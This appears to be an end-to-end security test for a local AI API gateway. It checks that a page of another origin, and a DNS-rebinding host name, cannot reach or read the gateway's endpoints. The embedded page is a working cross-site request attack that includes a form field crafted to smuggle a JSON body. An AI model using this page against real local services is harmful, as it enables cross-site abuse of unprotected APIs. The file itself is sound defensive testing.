"""What a web page can do to a gateway on the same machine: nothing.

A real browser opens a page of another origin. The page tries everything that a browser lets it send: `fetch` in all of
its modes, forms, images, scripts, frames, beacons and web sockets. It also has a name that resolves to this machine, as
after DNS rebinding.
"""

import os
import shutil
import subprocess
import tempfile
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from e2e.gateway import Gateway
from e2e.settings import OFFLINE

BROWSER = next(filter(None, map(shutil.which, ("chromium-headless-shell", "chromium", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(BROWSER is None, reason="no browser: install chromium-headless-shell")

BODY = '{"model":"chat-model","messages":[{"role":"user","content":"Hi."}],"input":"Hi.","max_tokens":9}'

PAGE = """<!doctype html><title>evil</title><body><script>
const gateway = location.hash.slice(1), body = %s, results = [];
const paths = ["/v1/chat/completions", "/v1/responses", "/v1/messages", "/v1/messages/count_tokens", "/v1/models", "/metrics", "/admin/reload"];
async function attempt(name, send) {
  try { const got = await send(); results.push([name, got.type, got.status, (await got.text()).length]); }
  catch (error) { results.push([name, "error", 0, 0]); }
}
async function run() {
  for (const path of paths) {
    const url = gateway + path;
    for (const mode of ["cors", "no-cors"]) for (const method of ["GET", "POST"]) for (const credentials of ["omit", "include"])
      for (const type of [null, "text/plain", "application/x-www-form-urlencoded", "application/json"]) {
        const init = {mode, method, credentials, headers: type ? {"content-type": type} : {}};
        if (method == "POST") init.body = body;
        await attempt([path, mode, method, credentials, type], () => fetch(url, init));
      }
    await attempt([path, "key"], () => fetch(url, {method: "POST", body, headers: {"content-type": "application/json", "x-api-key": "k"}}));
    navigator.sendBeacon(url, new Blob([body], {type: "text/plain"}));
    for (const tag of ["img", "script", "iframe", "video"]) { const e = document.createElement(tag); e.src = url; document.body.append(e); }
    for (const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      const frame = document.createElement("iframe"); frame.name = path + enctype; document.body.append(frame);
      const form = document.createElement("form");
      Object.assign(form, {action: url, method: "POST", enctype, target: frame.name});
      const field = document.createElement("input"); field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field);
      document.body.append(form); form.submit();
    }
    try { new WebSocket(url.replace("http", "ws")); } catch (error) {}
  }
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/done", {method: "POST", body: JSON.stringify(results)});
}
run();
</script>"""


class EvilSite:
    """A site that serves the page and takes its report."""

    def __init__(self, page):
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self):
                site.report = self.rfile.read(int(self.headers["content-length"])).decode()
                self.send_response(200)
                self.end_headers()
                site.done.set()

            def log_message(self, *_):
                pass

        self.report, self.done = None, threading.Event()
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.port = self.server.server_address[1]

    def close(self):
        self.server.shutdown()


def open_page(url, until, seconds=60):
    """Opens a page in the browser until `until` returns true. On a busy machine a browser may hang while it starts, so
    there is a second and a third attempt. Other tests set a proxy that keeps their clients offline."""
    environment = {name: value for name, value in os.environ.items() if name not in OFFLINE}
    for _ in range(3):
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
            command = [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
            command += ["--remote-debugging-port=0", f"--user-data-dir={profile}"]
            command += ["--host-resolver-rules=MAP *.test 127.0.0.1", "--no-proxy-server", url]
            browser = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=environment)
            try:
                by = time.monotonic() + seconds
                while browser.poll() is None and time.monotonic() < by:
                    if until():
                        return
                    time.sleep(0.05)
            finally:
                browser.kill()
                browser.wait()
    raise AssertionError("the page does not finish")


def metrics(gateway):
    page = urllib.request.build_opener(urllib.request.ProxyHandler({})).open(gateway.url + "/metrics").read().decode()
    lines = [line.rsplit(" ", 1) for line in page.splitlines() if not line.startswith("#")]
    return {name: float(value) for name, value in lines}


def served(counted):
    """How many requests were relayed, answered or not."""
    return sum(value for name, value in counted.items() if name.startswith("toolwire_requests_total") and 'upstream=""' not in name)


@pytest.fixture(scope="module")
def local_gateway(upstream):
    """Without keys, as most people start it."""
    process = Gateway(upstream)
    yield process
    process.close()


@pytest.mark.parametrize("site", ["127.0.0.1", "localhost", "evil.test"])
def test_a_page_of_another_origin_reaches_no_handler(local_gateway, upstream, site):
    evil = EvilSite(PAGE % repr(BODY))
    upstream.set_script("chat-model", [{"text": "Hello."}] * 100)
    before = metrics(local_gateway)
    open_page(f"http://{site}:{evil.port}/#{local_gateway.url}", evil.done.is_set)
    evil.close()
    after = metrics(local_gateway)
    assert after["toolwire_refused_total"] - before["toolwire_refused_total"] >= 100
    assert served(after) == served(before)
    assert upstream.requests("chat-model") == []
    assert after["toolwire_reloads_total"] == before["toolwire_reloads_total"]
    # The page cannot read an answer either: each is opaque or an error.
    assert '"basic"' not in evil.report and '"cors",200' not in evil.report
    assert '"error"' in evil.report


def test_a_name_that_resolves_to_this_machine_is_refused(local_gateway):
    port = local_gateway.url.rsplit(":", 1)[1]
    before = metrics(local_gateway)["toolwire_refused_total"]
    open_page(f"http://evil.test:{port}/v1/models", lambda: metrics(local_gateway)["toolwire_refused_total"] > before, 20)
    assert '"status":421' in local_gateway.log


def test_the_browser_does_reach_the_gateway(local_gateway):
    """Without this the other tests would pass with a browser that reaches nothing."""
    lines = local_gateway.log.count("\n")
    open_page(f"{local_gateway.url}/nowhere", lambda: local_gateway.log.count("\n") > lines, 20)
    assert '"status":404' in local_gateway.log.splitlines()[-1] or '"status":404' in local_gateway.log
